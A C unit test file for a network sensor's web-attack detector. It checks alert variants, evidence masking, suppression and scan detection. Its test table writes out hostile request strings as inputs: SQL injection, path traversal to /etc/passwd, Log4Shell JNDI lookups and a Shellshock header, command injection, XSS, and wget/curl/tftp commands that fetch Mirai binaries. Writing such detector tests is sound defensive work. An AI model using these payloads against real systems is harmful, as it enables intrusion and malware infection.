/* SPDX-License-Identifier: Apache-2.0
 * Unit tests for the web-attack detector (detect/detect-webattack.c) fed
 * with "http" request events: the URL decoding (double percent-encoding,
 * %uXXXX, '+', SQL comments, overlong and backslash traversal), each variant
 * with ordinary look-alikes that must stay quiet, the bounded and masked
 * evidence, suppression, the web-scan window and its settings. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "test-detect-harness.h"

extern const struct mm_detector mm_detector_web_attack;

#define SID(v) (9101100u + (v))

/* Sends one HTTP request event; ua and host may be NULL (header absent). */
static void request(struct mm_sensor *s, const char *src, const char *dst, const char *method,
                    const char *host, const char *url, const char *ua)
{
    json_t *http = json_pack("{s:s, s:s}", "url", url, "http_method", method);
    assert_non_null(http);
    if (host)
        json_object_set_new(http, "hostname", json_string(host));
    if (ua)
        json_object_set_new(http, "http_user_agent", json_string(ua));
    json_t *ev =
        json_pack("{s:s, s:s, s:s, s:i, s:s, s:i, s:s, s:o}", "timestamp",
                  "2026-04-01T00:00:00.000000+0000", "event_type", "http", "src_ip", src,
                  "src_port", 50000, "dest_ip", dst, "dest_port", 80, "proto", "TCP", "http", http);
    assert_non_null(ev);
    char *text = json_dumps(ev, JSON_COMPACT);
    assert_non_null(text);
    th_event(s, text);
    free(text);
    json_decref(ev);
}

struct web_case {
    const char *src, *method, *host, *url, *ua;
    unsigned variant; /* 0: must stay quiet */
};

#define OUT "198.51.100.30" /* a host on the internet */
#define PC  "192.168.1.10"  /* an office PC */
#define UA  "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"

static const struct web_case cases[] = {
    /* 1 SQL injection: encodings, case, comments */
    {OUT, "GET", "shop.example", "/item?id=1%20UnIoN%20SeLeCt%201,2", UA, 1},
    {OUT, "GET", "shop.example", "/item?id=1/**/union/**/all/**/select/**/1", UA, 1},
    {OUT, "GET", "shop.example", "/item?id=1%2527+or+%25271%2527%253D%25271", UA, 1},
    {OUT, "GET", "shop.example", "/item?id=%u0027%20or%201=1--", UA, 1},
    {OUT, "GET", "shop.example", "/item?id=1+AND+SLEEP(5)", UA, 1},
    {OUT, "GET", "shop.example", "/q?x=1+from+INFORMATION_SCHEMA.tables", UA, 1},
    {OUT, "GET", "shop.example", "/search?q=select+a+union+member", UA, 0},
    {OUT, "GET", "shop.example", "/faq?q=it%27s+ok+or+not", UA, 0},
    {OUT, "GET", "shop.example", "/blog/union-select-committee", UA, 0},
    /* 2 traversal */
    {OUT, "GET", "nas.example", "/img/..%c0%af..%c0%afwindows/win.ini", UA, 2},
    {OUT, "GET", "nas.example", "/files?f=..%5c..%5cboot.ini", UA, 2},
    {OUT, "GET", "nas.example", "/files?f=%252e%252e%252fsecret", UA, 2},
    {OUT, "GET", "nas.example", "/download?file=/etc/passwd", UA, 2},
    {OUT, "GET", "nas.example", "/docs/v1.2/../index.html", UA, 2},
    {OUT, "GET", "nas.example", "/docs/v1..2/index.html", UA, 0},
    /* 3 command injection */
    {OUT, "GET", "cam.example", "/cgi?x=$%7B$%7Blower:j%7Dndi:ldap://198.51.100.9/a%7D", UA, 3},
    {OUT, "GET", "cam.example", "/", "${jndi:ldap://198.51.100.9/a}", 3},
    {OUT, "GET", "cam.example", "/cgi-bin/status", "() { :; }; /bin/bash -c id", 3},
    {OUT, "GET", "cam.example", "/ping?ip=1.1.1.1%7Csh", UA, 3},
    {OUT, "GET", "cam.example", "/ping?ip=`id`", UA, 3},
    {OUT, "GET", "cam.example", "/run?c=powershell+-enc+AAAA", UA, 3},
    {OUT, "GET", "cam.example", "/shop?colour=red%7Cshoes", UA, 0},
    {OUT, "GET", "cam.example", "/docs/curl-options.html", UA, 0},
    /* 4 cross-site scripting */
    {OUT, "GET", "shop.example", "/s?q=%3CScRiPt%3Ealert(1)%3C/script%3E", UA, 4},
    {OUT, "GET", "shop.example", "/go?to=JavaScript:void(0)", UA, 4},
    {OUT, "GET", "shop.example", "/s?q=scripting+for+beginners", UA, 0},
    /* 5 IoT malware */
    {OUT, "GET", "192.168.1.1:8080", "/shell?cd+/tmp;wget+http://198.51.100.9/x.mpsl", UA, 5},
    {PC, "GET", "198.51.100.99", "/mirai.arm7", "Wget", 5},
    {PC, "GET", NULL, "/bins.sh", "Wget", 5},
    {PC, "GET", "[2001:db8::7]", "/Mozi.m", "Wget", 5},
    {OUT, "GET", "cam.example", "/cgi?cmd=tftp+-g+-r+x+198.51.100.9", UA, 5},
    {PC, "GET", "www.example.com", "/arm7/mirai.arm7.txt", UA, 0},
    {PC, "GET", "198.51.100.99", "/downloads/readme.txt", UA, 0},
    {PC, "GET", "198.51.100.99", "/mirai.html", UA, 0}, /* "mirai" (future) in a page name */
    {PC, "GET", "www.example.jp", "/sora/tsunami-hakai.html?dl=curl", UA, 0},
    /* "curl" inside a word (curling) is no downloader; mirai is a Japanese word */
    {PC, "GET", "www.example.jp", "/sports/curling/mirai-no-hoshi.html", UA, 0},
    {OUT, "GET", "cam.example", "/cgi?x=;curl%20-O%20http://198.51.100.9/mirai", UA, 5},
    /* 6 proxy probe */
    {OUT, "GET", "www.example.com", "http://www.example.com/", UA, 6},
    {PC, "GET", "192.168.1.80", "http://user:pw@proxy-judge.example/", UA, 6},
    {OUT, "CONNECT", "mail.example.org:25", "mail.example.org:25", UA, 6},
    {PC, "GET", "www.example.com", "http://www.example.com/index.html", UA, 0},
    {PC, "CONNECT", "www.example.com:443", "www.example.com:443", UA, 0},
    {PC, "GET", "[2001:db8::5]", "http://[2001:db8::5]:8080/", UA, 0},
    /* 7 executable download by an office PC */
    {PC, "GET", "dl.example.net", "/tools/Setup.EXE?ref=mail", UA, 7},
    {PC, "GET", "dl.example.net", "/x/update.hta", UA, 7},
    {PC, "GET", "dl.example.net", "/files/manual.zip", "curl/8.5.0", 0},
    {PC, "GET", "dl.example.net", "/exe/readme.html", UA, 0},
    {PC, "POST", "dl.example.net", "/upload/report.exe", UA, 0},
    {OUT, "GET", "shop.example", "/downloads/app.exe", UA, 0},
    /* software updates that fetch signed executables over plain HTTP from
     * their vendors' update hosts (Defender definitions via Windows Update,
     * Chrome's updater) stay quiet; look-alike hosts do not */
    {PC, "GET", "download.windowsupdate.com",
     "/c/msdownload/update/software/defu/2026/03/am_delta_patch_1.445.120.0_0a1b2c3d.exe",
     "Microsoft-Delivery-Optimization/10.0", 0},
    {PC, "GET", "au.download.windowsupdate.com",
     "/d/msdownload/update/software/defu/2026/03/am_base_patch_1.445.0.0_4e5f.exe",
     "Microsoft BITS/7.8", 0},
    {PC, "GET", "dl.google.com",
     "/release2/chrome/acx7_123.0.6312.86/123.0.6312.86_chrome_installer.exe",
     "Google Update/1.3.36.372;winhttp", 0},
    {PC, "GET", "edgedl.me.gvt1.com",
     "/edgedl/release2/chrome/acx7_123.0.6312.86/123.0.6312.86_chrome_installer.exe",
     "Google Update/1.3.36.372;winhttp", 0},
    /* other everyday plain-HTTP requests of office PCs */
    {PC, "GET", "ocsp.digicert.com",
     "/MFEwTzBNMEswSTAJBgUrDgMCGgUABBSAUQYBMq2awn1Rh6Doh%"
     "2FsBYgFV7gQUA95QNVbRTLtm8KPiGxvDl7I90VUCEAJ0"
     "LqoXyo4hxxe7H%2Fz9DKA%3D",
     "Microsoft-CryptoAPI/10.0", 0},
    {PC, "GET", "wpad", "/wpad.dat", "WinHttp-Autoproxy-Service/5.1", 0},
    {PC, "GET", "ctldl.windowsupdate.com",
     "/msdownload/update/v3/static/trustedr/en/authrootstl.cab?a1b2c3d4e5f6",
     "Microsoft-CryptoAPI/10.0", 0},
    {PC, "GET", "www.example.jp", "/search?q=%E3%81%BE%E3%82%82%E3%82%8A+select+union+member", UA,
     0},
    {PC, "GET", "download.windowsupdate.com.example.net", "/setup.exe", UA, 7},
    {PC, "GET", "evilwindowsupdate.com", "/setup.exe", UA, 7},
    {PC, "GET", "dl.google.com.example.net", "/setup.exe", UA, 7},
    /* 8 attack tools; ordinary clients stay quiet */
    {OUT, "GET", "shop.example", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)", 8},
    {OUT, "GET", "shop.example", "/", "Mozilla/5.0 zgrab/0.x", 8},
    {OUT, "GET", "shop.example", "/", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", 8},
    {OUT, "GET", "shop.example", "/", "curl/8.5.0", 0},
    {OUT, "GET", "shop.example", "/", "Wget/1.21.4", 0},
    {OUT, "GET", "shop.example", "/", "python-requests/2.31.0", 0},
    {OUT, "GET", "shop.example", "/", NULL, 0},
};

static void test_variants(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const struct web_case *c = &cases[i];
        struct mm_sensor *s = th_new(NULL, NULL, NULL, &mm_detector_web_attack);
        request(s, c->src, strcmp(c->src, PC) == 0 ? "203.0.113.80" : "192.168.1.80", c->method,
                c->host, c->url, c->ua);
        size_t want = c->variant ? 1 : 0;
        if (th_count_alerts(s, 0) != want || (want && th_count_alerts(s, SID(c->variant)) != 1)) {
            const json_t *a = json_array_get(s->alerts, 0);
            print_error(
                "case %zu (%s): expected variant %u, got %s\n", i, c->url, c->variant,
                a ? json_string_value(json_object_get(json_object_get(a, "alert"), "signature"))
                  : "nothing");
            fail();
        }
        th_free(s);
    }
}

static const char *evidence_str(const json_t *a, const char *key)
{
    return json_string_value(
        json_object_get(json_object_get(json_object_get(a, "mamori"), "evidence"), key));
}

static void test_evidence(void **state)
{
    (void)state;
    struct mm_sensor *s = th_new(NULL, NULL, NULL, &mm_detector_web_attack);
    /* a long URL with a password, a token and bytes that are not UTF-8 */
    char url[4200];
    int n = snprintf(url, sizeof url,
                     "/login?user=admin&Password=hunter2&api_token=abc123&q=1'+or+1=1--&pad=");
    memset(url + n, 'A', sizeof url - (size_t)n - 1);
    url[sizeof url - 1] = '\0';
    request(s, OUT, "192.168.1.80", "GET", "shop.example", url, "sqlmap/1.7");
    assert_int_equal(th_count_alerts(s, SID(1)), 1);
    const json_t *a = th_alert(s, SID(1), 0);
    const char *u = evidence_str(a, "url");
    assert_non_null(u);
    assert_true(strlen(u) < 512);
    assert_null(strstr(u, "hunter2"));
    assert_null(strstr(u, "abc123"));
    assert_non_null(strstr(u, "Password=***"));
    assert_string_equal(evidence_str(a, "category"), "sql-injection");
    assert_string_equal(evidence_str(a, "hostname"), "shop.example");
    assert_string_equal(evidence_str(a, "http_user_agent"), "sqlmap/1.7");
    assert_string_equal(evidence_str(a, "http_method"), "GET");
    const json_t *msg = json_object_get(json_object_get(a, "mamori"), "message");
    assert_non_null(strstr(json_string_value(json_object_get(msg, "ja")), "shop.example"));
    assert_non_null(strstr(json_string_value(json_object_get(msg, "en")), OUT));

    /* user info of an absolute target is masked too */
    request(s, PC, "192.168.1.80", "GET", "192.168.1.80", "http://bob:s3cret@judge.example/x", UA);
    a = th_alert(s, SID(6), 0);
    assert_non_null(a);
    assert_null(strstr(evidence_str(a, "url"), "s3cret"));
    assert_string_equal(evidence_str(a, "target"), "judge.example");
    th_free(s);
}

/* Japanese in a URL, a user agent and a host name longer than the evidence
 * keeps: each is cut between characters, where the last byte of a cut
 * character used to become '?'. */
static void test_evidence_cut_between_characters(void **state)
{
    (void)state;
    struct mm_sensor *s = th_new(NULL, NULL, NULL, &mm_detector_web_attack);
    char url[1024] = "/search?q=1'+or+1=1--&k=", ua[512] = "sqlmap/1.7 ", host[512] = "x";
    for (int i = 0; i < 200; i++) { /* 511, 255 and 255 bytes fall inside a character */
        strcat(url, "検");
        if (i < 120) {
            strcat(ua, "索");
            strcat(host, "店");
        }
    }
    request(s, OUT, "192.168.1.80", "GET", host, url, ua);
    assert_int_equal(th_count_alerts(s, SID(1)), 1);
    const json_t *a = th_alert(s, SID(1), 0);
    const char *u = evidence_str(a, "url"), *agent = evidence_str(a, "http_user_agent");
    const char *h = evidence_str(a, "hostname");
    assert_int_equal(strlen(u), 24 + 162 * 3);
    assert_memory_equal(u, url, strlen(u));
    assert_int_equal(strlen(agent), 11 + 81 * 3);
    assert_memory_equal(agent, ua, strlen(agent));
    assert_int_equal(strlen(h), 1 + 84 * 3);
    assert_memory_equal(h, host, strlen(h));
    th_free(s);
}

static void test_suppression(void **state)
{
    (void)state;
    struct mm_sensor *s = th_new(NULL, NULL, NULL, &mm_detector_web_attack);
    th_set_time(s, 1775001600.0);
    const char *sqli = "/item?id=1+union+select+1";
    request(s, OUT, "192.168.1.80", "GET", "a.example", sqli, UA);
    request(s, OUT, "192.168.1.80", "GET", "a.example", sqli, UA);            /* same pair: quiet */
    request(s, OUT, "192.168.1.81", "GET", "b.example", sqli, UA);            /* another server */
    request(s, OUT, "192.168.1.80", "GET", "a.example", "/s?q=<script>", UA); /* variant 4 */
    assert_int_equal(th_count_alerts(s, SID(1)), 2);
    assert_int_equal(th_count_alerts(s, SID(4)), 1);
    th_set_time(s, 1775001600.0 + 3601);
    request(s, OUT, "192.168.1.80", "GET", "a.example", sqli, UA);
    assert_int_equal(th_count_alerts(s, SID(1)), 3);
    th_free(s);

    s = th_new("[detect.web-attack]\nsuppress_seconds = 0\n", NULL, NULL, &mm_detector_web_attack);
    th_set_time(s, 1775001600.0);
    request(s, OUT, "192.168.1.80", "GET", "a.example", sqli, UA);
    th_set_time(s, 1775001601.0);
    request(s, OUT, "192.168.1.80", "GET", "a.example", sqli, UA);
    assert_int_equal(th_count_alerts(s, SID(1)), 2);
    th_free(s);
}

/* count distinct paths from src to dst, dt seconds apart, starting at t0. */
static void sweep(struct mm_sensor *s, const char *src, int count, double t0, double dt,
                  const char *suffix)
{
    char path[64];
    for (int i = 0; i < count; i++) {
        th_set_time(s, t0 + dt * i);
        snprintf(path, sizeof path, "/probe%d%s", i, suffix);
        request(s, src, "192.168.1.80", "GET", "shop.example", path, "Mozilla/5.0");
    }
}

/* Two recordings a year apart merged request by request: each year's
 * window counts its own paths. 8 distinct paths in each year stay below
 * the 12 of one window; a request in the earlier year counted the later
 * year's paths too (now - t negative: "within the window") and alerted. */
static void test_web_scan_alternating_years(void **state)
{
    (void)state;
    const double t0 = 1775001600.0, year = 365 * 86400.0;
    char path[64];
    struct mm_sensor *s = th_new(NULL, NULL, NULL, &mm_detector_web_attack);
    for (int i = 0; i < 16; i++) {
        th_set_time(s, t0 - (i % 2 ? year : 0) + i);
        snprintf(path, sizeof path, "/probe%d", i);
        request(s, OUT, "192.168.1.80", "GET", "shop.example", path, "Mozilla/5.0");
    }
    assert_int_equal(th_count_alerts(s, SID(9)), 0);
    for (int i = 16; i < 24; i++) { /* 12 in each year now: one alert per year */
        th_set_time(s, t0 - (i % 2 ? year : 0) + i);
        snprintf(path, sizeof path, "/probe%d", i);
        request(s, OUT, "192.168.1.80", "GET", "shop.example", path, "Mozilla/5.0");
    }
    assert_int_equal(th_count_alerts(s, SID(9)), 2);
    th_free(s);
}

static void test_web_scan(void **state)
{
    (void)state;
    const double t0 = 1775001600.0;
    struct mm_sensor *s = th_new(NULL, NULL, NULL, &mm_detector_web_attack);
    sweep(s, OUT, 11, t0, 1, "");
    assert_int_equal(th_count_alerts(s, SID(9)), 0);
    request(s, OUT, "192.168.1.80", "GET", "shop.example", "/probe3", UA); /* a repeat */
    assert_int_equal(th_count_alerts(s, SID(9)), 0);
    request(s, OUT, "192.168.1.80", "GET", "shop.example", "/probe11?x=1", UA);
    assert_int_equal(th_count_alerts(s, SID(9)), 1);
    const json_t *a = th_alert(s, SID(9), 0);
    assert_int_equal(json_integer_value(json_object_get(
                         json_object_get(json_object_get(a, "mamori"), "evidence"), "paths")),
                     12);
    /* static files, a slow crawl (10 s apart: 7 per window, both ends in) and office PCs
     * do not count */
    sweep(s, "198.51.100.31", 40, t0, 1, ".png");
    sweep(s, "198.51.100.32", 40, t0, 10, "");
    sweep(s, PC, 40, t0, 1, "");
    assert_int_equal(th_count_alerts(s, SID(9)), 1);
    th_free(s);

    s = th_new("[detect.web-attack]\nscan_sources = any\npaths = 5\nwindow_seconds = 30\n", NULL,
               NULL, &mm_detector_web_attack);
    sweep(s, PC, 5, t0, 1, "");
    assert_int_equal(th_count_alerts(s, SID(9)), 1);
    th_free(s);

    /* many sources and pairs: the tables stay bounded and still find a scan */
    s = th_new(NULL, NULL, NULL, &mm_detector_web_attack);
    char src[32];
    for (int i = 0; i < 600; i++) {
        snprintf(src, sizeof src, "198.51.%d.%d", 100 + i / 250, 1 + i % 250);
        sweep(s, src, 2, t0, 0.01, "");
    }
    sweep(s, OUT, 100, t0 + 1, 0.01, "");
    assert_int_equal(th_count_alerts(s, SID(9)), 1);
    th_free(s);

    /* bad settings stop the start */
    static const char *const bad[] = {
        "[detect.web-attack]\npaths = 1\n", "[detect.web-attack]\npaths = 64\n",
        "[detect.web-attack]\nscan_sources = home\n", "[detect.web-attack]\nwindow = 5\n"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        s = th_new(bad[i], NULL, NULL, NULL);
        void *st = NULL;
        assert_int_not_equal(mm_detector_web_attack.init(s, &st), 0);
        assert_null(st);
        th_free(s);
    }
}

static void test_ignored(void **state)
{
    (void)state;
    struct mm_sensor *s = th_new(NULL, NULL, NULL, &mm_detector_web_attack);
    /* responses, other event types and events without addresses or URL */
    th_event(s, "{\"event_type\":\"http\",\"src_ip\":\"192.168.1.80\",\"dest_ip\":\"" OUT
                "\",\"http\":{\"url\":\"/x?id=1+union+select+1\",\"status\":200}}");
    th_event(s, "{\"event_type\":\"dns\",\"src_ip\":\"" OUT
                "\",\"dest_ip\":\"192.168.1.1\",\"http\":{\"url\":\"/../\"}}");
    th_event(s, "{\"event_type\":\"http\",\"dest_ip\":\"192.168.1.80\",\"http\":{\"url\":\"/../"
                "\"}}");
    th_event(s, "{\"event_type\":\"http\",\"src_ip\":\"" OUT
                "\",\"dest_ip\":\"192.168.1.80\",\"http\":{\"url\":5}}");
    th_event(s, "{\"event_type\":\"http\",\"src_ip\":\"" OUT "\",\"dest_ip\":\"192.168.1.80\"}");
    /* a response whatever its members' order and status value; "http" not an object */
    th_event(s, "{\"event_type\":\"http\",\"src_ip\":\"192.168.1.80\",\"dest_ip\":\"" OUT
                "\",\"http\":{\"status\":null,\"url\":\"/x?id=1+union+select+1\"}}");
    th_event(s, "{\"event_type\":\"http\",\"src_ip\":\"" OUT
                "\",\"dest_ip\":\"192.168.1.80\",\"http\":\"/../\"}");
    assert_int_equal(th_count_alerts(s, 0), 0);
    /* a request's texts are read whatever the order of its members */
    th_event(s, "{\"event_type\":\"http\",\"src_ip\":\"" OUT
                "\",\"dest_ip\":\"192.168.1.80\",\"http\":{\"http_user_agent\":\"sqlmap/1.7\","
                "\"protocol\":\"HTTP/1.1\",\"url\":\"/index\",\"http_method\":\"HEAD\","
                "\"hostname\":\"b.example\"}}");
    assert_int_equal(th_count_alerts(s, 9101108), 1);
    const json_t *tool = th_alert(s, 9101108, 0);
    assert_string_equal(evidence_str(tool, "http_user_agent"), "sqlmap/1.7");
    assert_string_equal(evidence_str(tool, "url"), "/index");
    assert_string_equal(evidence_str(tool, "http_method"), "HEAD");
    assert_string_equal(evidence_str(tool, "hostname"), "b.example");
    assert_int_equal(th_count_alerts(s, 0), 1);
    /* a URL of only '%' signs and cut escapes decodes without reading past it */
    request(s, OUT, "192.168.1.80", "GET", "a.example", "/%", UA);
    request(s, OUT, "192.168.1.80", "GET", "a.example", "/%2", UA);
    request(s, OUT, "192.168.1.80", "GET", "a.example", "/%u00", UA);
    request(s, OUT, "192.168.1.80", "GET", "a.example", "/%252", UA);
    request(s, OUT, "192.168.1.80", "GET", "a.example", "/%00%00.%00/", UA);
    assert_int_equal(th_count_alerts(s, 0), 1);
    th_free(s);
}

/* Deterministic pseudo-random requests (long, many escapes, tool names,
 * half patterns) under the sanitizers: nothing reads or writes out of
 * bounds, and every alert's evidence stays bounded. */
static void test_random(void **state)
{
    (void)state;
    static const char alphabet[] = "%%%uU0123456789abcdefABCDEF/\\.;|$(){}`'\"=+*-_ ?&#:<>@"
                                   "sqlmapunionselectwgetmirai.x86jndi";
    struct mm_sensor *s =
        th_new("[detect.web-attack]\nsuppress_seconds = 0\n", NULL, NULL, &mm_detector_web_attack);
    static char url[5000], ua[400], host[300];
    uint32_t x = 12345;
    for (int i = 0; i < 400; i++) {
        char *bufs[] = {url, ua, host};
        size_t caps[] = {sizeof url, sizeof ua, sizeof host};
        for (size_t b = 0; b < 3; b++) {
            x = x * 1103515245u + 12345u;
            size_t n = (x >> 8) % caps[b];
            for (size_t k = 0; k < n; k++) {
                x = x * 1103515245u + 12345u;
                bufs[b][k] = alphabet[(x >> 16) % (sizeof alphabet - 1)];
            }
            bufs[b][n] = '\0';
        }
        th_set_time(s, 1775001600.0 + i * 0.1);
        request(s, i % 2 ? OUT : PC, i % 3 ? "192.168.1.80" : "203.0.113.5",
                i % 5 ? "GET" : "CONNECT", i % 7 ? host : NULL, url, i % 11 ? ua : NULL);
    }
    assert_true(json_array_size(s->alerts) > 100); /* the patterns were met */
    for (size_t i = 0; i < json_array_size(s->alerts); i++) {
        const char *u = evidence_str(json_array_get(s->alerts, i), "url");
        assert_non_null(u);
        assert_true(strlen(u) < 512);
        assert_true(strlen(evidence_str(json_array_get(s->alerts, i), "http_user_agent")) < 256);
    }
    th_free(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_variants),
        cmocka_unit_test(test_evidence),
        cmocka_unit_test(test_suppression),
        cmocka_unit_test(test_web_scan),
        cmocka_unit_test(test_web_scan_alternating_years),
        cmocka_unit_test(test_ignored),
        cmocka_unit_test(test_random),
        cmocka_unit_test(test_evidence_cut_between_characters),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
